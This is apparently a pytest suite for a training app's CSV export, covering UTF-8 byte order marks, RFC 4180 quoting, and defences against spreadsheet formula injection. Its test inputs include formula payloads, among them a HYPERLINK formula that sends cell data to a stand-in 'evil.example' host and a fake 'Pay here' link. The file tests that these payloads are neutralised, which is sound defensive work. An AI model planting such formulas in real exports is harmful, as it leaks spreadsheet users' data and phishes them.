"""CSV exports open safely in a spreadsheet: BOM, RFC 4180 quoting, and no live formulas."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from trainapp.csv_export import csv_bytes, csv_response, safe_cell


def read_back(data: bytes) -> list[list[str]]:
    """The file as a spreadsheet (or any RFC 4180 reader) sees it."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_file_starts_with_a_byte_order_mark_so_excel_reads_utf8():
    data = csv_bytes(["Name"], [["Zoë Adams"], ["Siân Ó Briain"]])
    assert data[:3] == b"\xef\xbb\xbf"
    assert data.count(b"\xef\xbb\xbf") == 1
    assert read_back(data) == [["Name"], ["Zoë Adams"], ["Siân Ó Briain"]]


def test_rows_end_with_crlf_as_rfc_4180_says():
    data = csv_bytes(["A", "B"], [["1", "2"]])
    assert data.decode("utf-8-sig") == "A,B\r\n1,2\r\n"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Smith, Jones and Co", '"Smith, Jones and Co"'),
        ('The "Big" Room', '"The ""Big"" Room"'),
        ("line one\nline two", '"line one\nline two"'),
        ("plain", "plain"),
    ],
)
def test_commas_quotes_and_newlines_are_quoted_and_survive_a_round_trip(value, written):
    data = csv_bytes(["Value"], [[value]])
    assert data.decode("utf-8-sig") == f"Value\r\n{written}\r\n"
    assert read_back(data) == [["Value"], [value]]


@pytest.mark.parametrize(
    "value",
    [
        "=SUM(A1:A9)",
        "+44 1234 567890",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ],
)
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(value):
    assert safe_cell(value) == "'" + value
    [_, row] = read_back(csv_bytes(["Value"], [[value]]))
    assert row == ["'" + value]
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_hyperlink_formula_in_a_name_is_exported_as_text_in_a_full_file():
    rows = [['=HYPERLINK("http://evil.example","Pay here")', "£50.00"], ["Ana Ahmed", "£35.00"]]
    data = csv_bytes(["Learner", "Amount"], rows)
    assert read_back(data) == [
        ["Learner", "Amount"],
        ['\'=HYPERLINK("http://evil.example","Pay here")', "£50.00"],
        ["Ana Ahmed", "£35.00"],
    ]
    # The quote inside the formula is doubled: the cell cannot break out into a new one.
    assert b'"\'=HYPERLINK(""http://evil.example"",""Pay here"")"' in data


def test_the_header_row_is_neutralised_too():
    assert read_back(csv_bytes(["=cmd", "Name"], []))[0] == ["'=cmd", "Name"]


@pytest.mark.parametrize(
    ("value", "written"),
    [(None, ""), (True, "Yes"), (False, "No"), (-150, "-150"), (12, "12"), ("a = b", "a = b")],
)
def test_other_values_are_written_as_they_are(value, written):
    # Numbers cannot be formulas, and a formula character only matters at the start.
    assert safe_cell(value) == written


def test_the_response_is_a_utf8_csv_attachment(app):
    with app.test_request_context():
        response = csv_response("charges-2030-01.csv", ["A"], [["=1"]])
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="charges-2030-01.csv"'
    assert read_back(response.get_data()) == [["A"], ["'=1"]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("55.00"), "55.00"),
        (Decimal("-50.00"), "-50.00"),
        (Decimal("0.05"), "0.05"),
        (date(2026, 11, 2), "2026-11-02"),
    ],
)
def test_money_and_dates_are_written_as_values_a_spreadsheet_sums_and_sorts(value, written):
    # A negative amount is a number, not a formula: it keeps no apostrophe.
    [_, row] = read_back(csv_bytes(["Value"], [[value]]))
    assert row == [written]


def test_money_in_pence_becomes_pounds_with_two_decimal_places():
    from trainapp.money import to_pounds

    assert [str(to_pounds(p)) for p in (5500, 5, -5000, 0, 123456789)] == [
        "55.00",
        "0.05",
        "-50.00",
        "0.00",
        "1234567.89",
    ]
